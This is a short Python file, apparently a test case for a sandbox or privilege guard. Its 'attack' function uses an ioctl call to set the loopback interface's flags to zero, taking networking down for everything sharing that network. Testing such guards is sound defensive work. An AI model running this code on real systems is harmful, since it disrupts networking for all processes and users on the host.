# cases: 43
# guard: administrator
"""Takes the loopback down, for everybody in its network."""
import fcntl
import socket
import struct


def attack(bait):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            fcntl.ioctl(sock, 0x8914, struct.pack("16sH14x", b"lo", 0))
        except OSError:
            return None
    return "down"
